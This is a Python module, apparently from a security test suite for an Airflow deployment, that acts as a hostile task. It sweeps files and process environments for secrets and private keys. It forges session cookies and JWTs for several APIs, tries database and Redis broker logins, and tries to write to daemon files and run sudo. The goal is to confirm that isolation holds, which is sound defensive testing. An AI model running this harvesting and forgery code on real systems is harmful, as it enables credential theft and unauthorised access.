"""What task code would try, written once: run inside a task by the probe DAG (test_untrusted_tasks.py embeds this
file's source in it) and, for the controls, by the tests with the real keys.

Everything here uses only what a task can import from the kit's venv (requests, cryptography, psycopg2, redis) and
the standard library, and reads nothing but its arguments and the files and processes it is pointed at.
"""
import base64
import hashlib
import hmac
import json
import os
import re
import socket
import time
import uuid

# Where a task would look for something to steal: configuration, state, runtime and home folders, other
# processes. The venv and package caches are skipped (big, and public code).
SCAN_ROOTS = ("/etc", "/opt", "/var/lib", "/run", "/tmp", "/home", "/root", "/mnt", "/srv", "/usr/local")
SCAN_SKIP = ("/opt/airflow/venv", "/opt/airflow-installer", "/var/lib/apt", "/var/lib/dpkg", "/etc/ssl/certs",
             "/usr/share/ca-certificates", "/var/lib/redis", "/var/lib/postgresql", "/opt/airflow/releases",
             "/opt/airflow/repo", "/usr/local/lib")
MAX_FILE = 256 * 1024
MAX_FILES = 20000
# What a secret looks like in text: the kit's are letters and digits, or URL-safe base64.
TOKEN = re.compile(r"[A-Za-z0-9_\-+/=]{16,}")
ASSIGNMENT = re.compile(r"""^\s*(?:export\s+)?[A-Za-z0-9_.-]+\s*[=:]\s*['"]?([^'"\s]{16,})['"]?\s*$""", re.M)
URL_PASSWORD = re.compile(r"://[^:/@\s]*:([^@\s]{8,})@")
KEY32 = re.compile(r"^[A-Za-z0-9_-]{43}=$")
PEM_KEY = re.compile(r"-----BEGIN [A-Z ]*PRIVATE KEY-----.+?-----END [A-Z ]*PRIVATE KEY-----", re.S)


def sha256(value: str) -> str:
    return hashlib.sha256(value.encode()).hexdigest()


# --- what can be read ------------------------------------------------------------------------------------------
def _texts(roots=SCAN_ROOTS, skip=SCAN_SKIP):
    """(where, text) of every readable small file under roots and of every readable process environment and
    command line; and the paths that were refused."""
    denied, count = [], 0
    for root in roots:
        for folder, dirs, files in os.walk(root, onerror=lambda exc: denied.append(exc.filename)):
            dirs[:] = [d for d in dirs if not os.path.join(folder, d).startswith(skip)]
            for name in files:
                path = os.path.join(folder, name)
                try:
                    if os.path.islink(path) or not os.path.isfile(path) or os.path.getsize(path) > MAX_FILE:
                        continue
                    with open(path, encoding="utf-8", errors="replace") as handle:
                        text = handle.read()
                except OSError:
                    denied.append(path)
                    continue
                count += 1
                yield path, text
                if count >= MAX_FILES:
                    return
    for pid in filter(str.isdigit, os.listdir("/proc")):
        for kind in ("environ", "cmdline"):
            try:
                with open(f"/proc/{pid}/{kind}", "rb") as handle:
                    yield f"/proc/{pid}/{kind}", handle.read().replace(b"\0", b"\n").decode("utf-8", "replace")
            except OSError:
                denied.append(f"/proc/{pid}/{kind}")
    yield "self/argv", "\n".join(open("/proc/self/cmdline", "rb").read().decode().split("\0"))
    denied_texts.extend(denied)


denied_texts: list = []


def scan(secret_hashes: dict, roots=SCAN_ROOTS) -> dict:
    """Read everything readable; report where any of the given secrets (name -> sha256) appears, and the values
    worth trying as keys: assignments, URL passwords, URL-safe base64 seeds, PEM private keys."""
    by_hash = {digest: name for name, digest in secret_hashes.items()}
    hits, keys, pems, files = {}, set(), set(), 0
    denied_texts.clear()
    for where, text in _texts(roots):
        files += 1
        for token in set(TOKEN.findall(text)):
            if (name := by_hash.get(sha256(token))) is not None:
                hits.setdefault(name, []).append(where)
        keys.update(ASSIGNMENT.findall(text))
        keys.update(URL_PASSWORD.findall(text))
        keys.update(token for token in TOKEN.findall(text) if KEY32.match(token))
        pems.update(PEM_KEY.findall(text))
    return {"files_read": files, "denied": sorted(set(denied_texts)), "hits": hits,
            "keys": sorted(keys), "pems": sorted(pems)}


# --- forging ---------------------------------------------------------------------------------------------------
def b64url(data: bytes) -> str:
    return base64.urlsafe_b64encode(data).rstrip(b"=").decode()


def jwt_hs512(claims: dict, key: str) -> str:
    signing_input = b64url(json.dumps({"alg": "HS512", "typ": "JWT"}).encode()) + "." + b64url(
        json.dumps(claims).encode())
    return signing_input + "." + b64url(hmac.new(key.encode(), signing_input.encode(), hashlib.sha512).digest())


def ed25519_key(material: str):
    """An Ed25519 private key from a PEM or a URL-safe base64 seed, or None."""
    from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey
    from cryptography.hazmat.primitives.serialization import load_pem_private_key

    try:
        if material.startswith("-----BEGIN"):
            key = load_pem_private_key(material.encode(), password=None)
            return key if isinstance(key, Ed25519PrivateKey) else None
        raw = base64.urlsafe_b64decode(material)
        return Ed25519PrivateKey.from_private_bytes(raw) if len(raw) == 32 else None
    except (ValueError, TypeError):
        return None


def jwt_eddsa(header: dict, claims: dict, key) -> str:
    signing_input = b64url(json.dumps(header).encode()) + "." + b64url(json.dumps(claims).encode())
    return signing_input + "." + b64url(key.sign(signing_input.encode()))


def remember_cookie(key: str, user_id: str = "1") -> str:
    """Flask-Login's remember-me cookie for a user id, signed with a Flask SECRET_KEY."""
    return f"{user_id}|{hmac.new(key.encode(), user_id.encode(), hashlib.sha512).hexdigest()}"


def time_claims(valid_for: int = 300) -> dict:
    now = int(time.time())
    return {"iat": now, "nbf": now, "exp": now + valid_for, "jti": uuid.uuid4().hex}


def log_token(key: str, filename: str) -> str:
    """A worker log server's fetch token ([api] secret_key, HS512)."""
    return jwt_hs512(dict(time_claims(), aud="task-instance-logs", filename=filename), key)


def edge_token(key: str, method: str) -> str:
    """An Edge worker's call token ([api_auth] jwt_secret, HS512): the API path it is valid for."""
    return jwt_hs512(dict(time_claims(), aud="api", method=method), key)


# --- using a forgery -------------------------------------------------------------------------------------------
def cookie_gets_token(api_url: str, ca_file: str, cookie: str) -> bool:
    """The API server's FAB app trades a valid remember-me cookie for an API token (the _token cookie)."""
    import requests

    resp = requests.get(f"{api_url}/auth/", cookies={"remember_token": cookie}, verify=ca_file,
                        allow_redirects=False, timeout=15)
    return "_token" in resp.cookies


def api_status(url: str, ca_file: str, token: str, method: str = "GET", body=None) -> int:
    import requests

    return requests.request(method, url, headers={"Authorization": f"Bearer {token}"}, json=body,
                            verify=ca_file, timeout=15).status_code


def raw_status(url: str, token: str, ca_file=None, method: str = "GET", body=None) -> int:
    """For the worker log servers and the edge worker API, whose tokens go in without 'Bearer'."""
    import requests

    return requests.request(method, url, headers={"Authorization": token}, json=body,
                            verify=ca_file if ca_file else True, timeout=15).status_code


# --- routes ----------------------------------------------------------------------------------------------------
def db_login(host: str, port: int, dbname: str, user: str, password: str) -> str:
    import psycopg2

    try:
        psycopg2.connect(host=host, port=port, dbname=dbname, user=user, password=password, sslmode="require",
                         connect_timeout=8).close()
        return "CONNECTED"
    except psycopg2.Error as exc:
        return " ".join(str(exc).split())[:200]


def broker_session(host: str, port: int, ca_file: str, user: str, password: str) -> str:
    """Log in to Redis as a user, then publish to a list and read it back: what a task would need to read queued
    task messages or inject its own."""
    import redis
    from redis.backoff import NoBackoff
    from redis.retry import Retry

    # One try: redis-py retries a refused connection with backoff by default (4.5 s each, measured).
    client = redis.Redis(host=host, port=port, username=user, password=password, ssl=True, ssl_ca_certs=ca_file,
                         socket_connect_timeout=8, socket_timeout=8, retry=Retry(NoBackoff(), 0))
    try:
        key = f"kit-attack-{uuid.uuid4().hex}"
        client.lpush(key, "forged")
        value = client.lrange(key, 0, -1)
        client.delete(key)
        return "PUBLISHED AND READ" if value == [b"forged"] else f"read {value!r}"
    except redis.RedisError as exc:
        return f"{exc.__class__.__name__}: {' '.join(str(exc).split())[:160]}"
    finally:
        client.close()


def tcp_open(host: str, port: int) -> str:
    try:
        with socket.create_connection((host, port), timeout=5):
            return "OPEN"
    except OSError as exc:
        return exc.__class__.__name__


# --- the task's whole attack -------------------------------------------------------------------------------------
def probe(conf: dict, ti_id: str) -> dict:
    """Everything a task tries on its VM (conf: where things are, the secrets' hashes, leaked passwords for the
    route attacks, and the control forgeries made with the real keys). Returns what worked and what did not."""
    found = {"host": socket.gethostname(), "user": __import__("pwd").getpwuid(os.getuid()).pw_name}
    with open("/proc/self/status") as status:
        found["no_new_privs"] = next(line.split()[1] for line in status if line.startswith("NoNewPrivs"))
    found["fds"] = {}
    for fd in sorted(os.listdir("/proc/self/fd"), key=int):
        try:
            found["fds"][fd] = os.readlink(f"/proc/self/fd/{fd}")
        except OSError:
            pass
    found["sockets"] = _inet_sockets()
    found["env_names"] = sorted(os.environ)
    found["foreign_environs"] = foreign_environs()

    seen = scan(conf["secret_hashes"])
    found.update(files_read=seen["files_read"], hits=seen["hits"], keys_tried=len(seen["keys"]),
                 pems_tried=len(seen["pems"]))
    found["sensitive"] = {}
    for path in conf["sensitive_paths"]:
        try:
            with open(path, "rb") as handle:
                handle.read(1)
            found["sensitive"][path] = "READ"
        except OSError as exc:
            found["sensitive"][path] = exc.__class__.__name__

    api, ca = conf["api_url"], conf["ca_file"]
    keys = seen["keys"]
    # Forgeries from everything found, then the controls: the same forgeries made with the real keys.
    found["cookie"] = [k[:4] for k in keys if cookie_gets_token(api, ca, remember_cookie(k))]
    found["cookie_control"] = cookie_gets_token(api, ca, conf["control"]["cookie"])
    # The attack as it worked before the FAB app had a key of its own: [api] secret_key, held by worker VMs.
    found["cookie_with_log_key"] = cookie_gets_token(api, ca, conf["control"]["cookie_with_log_key"])
    ed_keys = [k for k in (ed25519_key(m) for m in keys + seen["pems"]) if k is not None]
    found["ed25519_keys_tried"] = len(ed_keys)
    rest_claims = dict(conf["rest_claims"])
    found["rest"] = [api_status(f"{api}/api/v2/dags", ca, jwt_eddsa(conf["rest_header"], dict(rest_claims, **time_claims()), k))
                     for k in ed_keys]
    found["rest_control"] = api_status(f"{api}/api/v2/dags", ca, conf["control"]["rest_token"])
    execution = {"sub": ti_id, "scope": "execution", "aud": "urn:airflow.apache.org:task"}
    found["execution"] = [api_status(f"{api}/execution/variables/kit_probe", ca,
                                     jwt_eddsa(conf["rest_header"], dict(execution, **time_claims()), k))
                          for k in ed_keys]
    found["execution_control"] = api_status(f"{api}/execution/variables/kit_probe", ca, conf["control"]["execution_token"])
    if conf.get("log_server"):
        # This task's own log, which the worker's log server serves to the API server while the task runs.
        log = conf["log_server"]
        url = f"{log['url']}/log/{log['filename']}"
        found["log_server"] = [raw_status(url, log_token(k, log["filename"])) for k in keys]
        found["log_server_control"] = raw_status(url, conf["control"]["log_token"])
    if conf.get("edge"):
        edge = conf["edge"]
        method = f"jobs/fetch/{edge['other_worker']}"
        body = {"queues": edge["queues"], "free_concurrency": 0}
        found["edge"] = [raw_status(f"{edge['api_url']}/{method}", edge_token(k, method), ca, "POST", body)
                         for k in keys]
        found["edge_control"] = raw_status(f"{edge['api_url']}/{method}", conf["control"]["edge_token"], ca, "POST",
                                           body)

    # Routes, with the real passwords as if they had leaked: the network must still say no.
    db = conf["db"]
    found["db"] = db_login(db["host"], db["port"], db["name"], db["user"], db["password"])
    broker = conf["broker"]
    found["broker"] = {user: broker_session(broker["host"], broker["port"], ca, user, password)
                       for user, password in broker["users"].items()}

    # What it may change: code and configuration the daemons load, the worker's logs, its own home (control).
    found["writes"] = {}
    for target in conf["write_targets"] + [os.path.join(os.environ.get("HOME", "/nonexistent"), "kit-probe")]:
        try:
            with open(target, "a", encoding="utf-8") as handle:
                handle.write("# written by task code\n")
            found["writes"][target] = "WRITTEN"
        except OSError as exc:
            found["writes"][target] = exc.__class__.__name__
    import subprocess

    found["sudo"] = subprocess.run(["sudo", "-n", "true"], capture_output=True, text=True).returncode
    return found


def foreign_environs() -> list:
    """The processes of other users whose environment this process can read: (pid, owner uid)."""
    readable = []
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            owner = os.stat(f"/proc/{pid}").st_uid
            if owner == os.getuid():
                continue
            with open(f"/proc/{pid}/environ", "rb") as handle:
                handle.read(1)
            readable.append((int(pid), owner))
        except OSError:
            pass
    return readable


def _inet_sockets() -> list:
    """This process's TCP connections (remote host:port), from /proc/net/tcp by inode."""
    inodes = set()
    for fd in os.listdir("/proc/self/fd"):
        try:
            link = os.readlink(f"/proc/self/fd/{fd}")
        except OSError:
            continue
        if link.startswith("socket:["):
            inodes.add(link[8:-1])
    out = []
    for table in ("/proc/self/net/tcp", "/proc/self/net/tcp6"):
        try:
            lines = open(table).read().splitlines()[1:]
        except OSError:
            continue
        for line in lines:
            fields = line.split()
            if fields[9] in inodes:
                out.append(fields[2])
    return out
